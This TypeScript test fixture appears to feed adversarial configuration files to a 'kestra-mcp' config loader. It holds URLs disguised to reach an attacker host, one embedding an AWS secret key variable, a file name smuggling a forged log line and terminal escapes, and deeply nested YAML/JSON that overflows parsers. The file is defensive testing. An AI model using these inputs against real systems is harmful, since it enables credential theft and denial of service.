// biome-ignore-all lint/suspicious/noTemplateCurlyInString: placeholders of configuration files.

import { join } from 'node:path';
import { json, to, type Way } from './way.js';

const DEPTH = 60 * 1024;
const yaml = (text: string) => ({ 'kestra-mcp.config.yaml': text });
const lines = (count: number, line: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => line(at)).join('');

/** Addresses and file names in a spelling that looks like another one. */
const SPELT: readonly Way[] = [
  {
    name: 'an address before an @',
    files: ({ evil }) => json({ kestra: { baseUrl: `http://localhost:8080@${evil}/` } }),
  },
  {
    name: 'an address with slashes missing',
    files: ({ evil }) => json({ kestra: { baseUrl: `http:${evil}` } }),
  },
  {
    name: 'a host after more slashes',
    files: ({ evil }) => json({ kestra: { baseUrl: `http:///\${AWS_SECRET_ACCESS_KEY}@${evil}` } }),
  },
  {
    name: 'a variable in the port',
    files: () => json({ kestra: { baseUrl: 'http://127.0.0.1:${PORT:-1}' } }),
  },
  {
    name: 'IPv6 of the same',
    files: ({ evil }) =>
      json({ kestra: { baseUrl: `http://[::ffff:127.0.0.1]:${evil.split(':')[1]}/api/v1` } }),
  },
  {
    name: 'wide digits and dots',
    files: ({ evil }) => json({ kestra: { baseUrl: `http://１２７。0。0。1:${evil.split(':')[1]}` } }),
    believed: 'sends',
  },
  {
    name: 'keys that are escaped',
    files: ({ evil }) => ({
      'kestra-mcp.config.json': `{"\\u006bestra":{"base\\u0055rl":"http://${evil}"}}`,
    }),
    believed: 'sends',
  },
  {
    name: 'the same key twice',
    files: ({ evil }) => ({
      'kestra-mcp.config.json': `{"tools":{"readOnly":true},"tools":{"readOnly":false},"kestra":{},"kestra":{"baseUrl":"http://${evil}"}}`,
    }),
    believed: 'sends',
  },
  {
    name: 'aliases of YAML',
    files: ({ evil }) =>
      yaml(`kestra: { baseUrl: &a "http://${evil}" }\ntools: { disable: [*a], only: [*a] }\n`),
  },
  {
    name: 'merge keys of YAML',
    files: ({ evil }) =>
      yaml(`%YAML 1.1\n---\n<<: { kestra: { baseUrl: "http://${evil}" }, tools: { readOnly: false } }\n`),
  },
  {
    name: 'YAML within itself',
    files: () => yaml('tools: &t\n  fixed: *t\n  disable: &l [*l]\n  only: *l\n  readOnly: *t\n'),
  },
  {
    name: 'sets, dates and bytes of YAML',
    files: () =>
      yaml('%YAML 1.1\n---\ntools:\n  disable: !!set {a}\n  only: !!binary aGk=\n  readOnly: 2001-12-14\n'),
  },
  {
    name: 'what editors leave',
    files: ({ evil }) =>
      Object.fromEntries(
        [
          '.kestra-mcp.config.json.swp',
          'kestra-mcp.config.json~',
          '#kestra-mcp.config.json#',
          '.env~',
          '.env.swp',
        ].map((name) => [
          name,
          name.startsWith('.env') ? `KESTRA_BASE_URL=http://${evil}` : JSON.stringify(to(evil)),
        ]),
      ),
  },
  {
    name: 'a name with an end of line in it',
    files: ({ evil }) => ({
      'a\n2026 WARNING kestra-mcp\u001b[2J/kestra-mcp.config.json': JSON.stringify(to(evil)),
    }),
    prepare: (folder) => join(folder, 'a\n2026 WARNING kestra-mcp\u001b[2J'),
    believed: 'sends',
  },
];

/** Texts that take long to parse, or overflow the stack of a parser. */
const DEEP: readonly Way[] = [
  { name: 'YAML of objects without a bottom', files: () => yaml('{'.repeat(DEPTH)) },
  { name: 'YAML of lists without a bottom', files: () => yaml('['.repeat(DEPTH)) },
  { name: 'YAML of keys without a bottom', files: () => yaml('? '.repeat(DEPTH / 2)) },
  { name: 'YAML of both', files: () => yaml('- ? {a: ['.repeat(DEPTH / 10)) },
  { name: 'YAML by indentation', files: () => yaml(lines(340, (at) => `${' '.repeat(at)}a:\n`)) },
  { name: 'YAML of many names', files: () => yaml(`[${lines(4_500, (at) => `&a${at} x,*a${at},`)}]`) },
  { name: 'YAML of many tags', files: () => yaml(lines(2_500, (at) => `!!js/function${at} a: b\n`)) },
  {
    name: 'JSON of objects without a bottom',
    files: () => ({ 'kestra-mcp.config.json': '{"a":'.repeat(DEPTH / 5) }),
  },
  {
    name: 'JSON that is deep, and whole',
    files: () => ({
      'kestra-mcp.config.json': `{"tools":{"readOnly":${'['.repeat(20_000)}${']'.repeat(20_000)}}}`,
    }),
  },
];

export const ODD: readonly Way[] = [...SPELT, ...DEEP];
